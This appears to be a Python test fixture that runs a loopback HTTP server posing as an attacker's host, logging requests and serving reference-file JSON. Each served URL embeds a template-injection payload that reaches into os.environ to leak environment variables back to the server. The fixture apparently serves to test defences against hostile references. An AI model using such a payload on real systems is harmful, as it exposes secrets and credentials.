"""A web server on loopback that belongs to an attacker, and records who asks it."""

import contextlib
import http.server
import json
import threading


class _Recording(http.server.ThreadingHTTPServer):
    """Counts connections, and answers everything with references that ask for the environment."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _Answering)
        self.port = self.server_address[1]
        self.connections, self.requests = 0, []

    def get_request(self):
        connection = super().get_request()
        self.connections += 1
        return connection


class _Answering(http.server.BaseHTTPRequestHandler):
    timeout = 5

    def do_GET(self):
        self.server.requests.append(self.requestline)
        leak = "{{u.__globals__['os'].environ}}"
        body = json.dumps(
            {
                "version": 1,
                "templates": {"u": f"http://127.0.0.1:{self.server.port}/{leak}"},
                "refs": {"manifest.json": ["{{u}}"]},
            }
        ).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(body)

    def do_HEAD(self):
        self.do_GET()

    def log_message(self, *arguments):
        pass


@contextlib.contextmanager
def recording():
    """A server that records who asks it."""
    server = _Recording()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
